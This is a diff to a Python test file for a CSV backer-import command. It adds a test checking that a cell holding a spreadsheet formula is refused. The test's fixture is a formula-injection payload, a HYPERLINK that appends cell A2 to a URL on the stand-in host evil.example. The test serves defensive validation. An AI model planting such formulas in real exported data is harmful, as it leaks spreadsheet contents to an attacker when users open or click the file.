@@ -91,3 +91,10 @@ def test_the_command_imports_a_file(ask, tmp_path, capsys):
     call_command("import_backers", str(path))
     assert "created 3" in capsys.readouterr().out
     assert Backing.objects.count() == 3
+
+
+def test_a_cell_a_spreadsheet_would_run_is_refused(ask):
+    content = csv_bytes('5101,,free-prisoners,wrote,,,"=HYPERLINK(""http://evil.example/?""&A2,""Click"")"')
+    report = backers_import(content=content)
+    assert not report.succeeded and "spreadsheet formula" in report.rows[0]["message"]
+    assert not Backing.objects.exists()
